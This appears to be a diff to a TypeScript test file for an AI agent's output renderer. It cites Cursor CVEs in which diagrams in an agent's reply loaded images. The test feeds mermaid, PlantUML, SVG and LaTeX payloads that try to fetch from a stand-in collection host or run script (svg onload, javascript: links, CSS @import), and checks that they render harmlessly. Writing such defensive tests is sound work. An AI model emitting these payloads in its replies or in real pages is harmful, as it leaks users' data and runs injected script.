@@ -134,13 +134,16 @@ section('4.5 Rendering and network', 'rendering.ts', (incident) => {
       row: 48,
       id: 'CVE-2025-54132, CVE-2025-61589 Cursor',
       happened: 'Diagrams in the agent’s words loaded images.',
-      protects: 'Diagrams in a fence are shown as the text that they are; Waymark draws only plans, from its own data.',
+      protects:
+        'Diagrams are drawn from their words and lines alone: no HTML, link, style, setting or picture of the text is used.',
     },
     {
-      'shows diagrams as text': () =>
+      'draws diagrams without what else their text asks for': () =>
         showsHarmlessly([
           '```mermaid\ngraph TD; A["<img src=https://collect.injected.example/x>"] --> B\nclick A "javascript:window.hacked=1"\n```',
           '```mermaid\n%%{init: {"themeCSS": "@import url(https://collect.injected.example/y)"}}%%\ngraph TD; A-->B\n```',
+          '```mermaid\nsequenceDiagram\nA->>B: <img src=https://collect.injected.example/s>\nlink A: x @ https://collect.injected.example/l\n```',
+          '```mermaid\nclassDiagram\nclass A["<svg onload=window.hacked=1>"]\ncallback A "window.hacked=1"\nlink A "https://collect.injected.example/c"\n```',
           '```plantuml\n!include https://collect.injected.example/z\n```',
           '```svg\n<svg onload="window.hacked=1"><image href="https://collect.injected.example/w"/></svg>\n```',
           '$$\\includegraphics{https://collect.injected.example/v}$$',
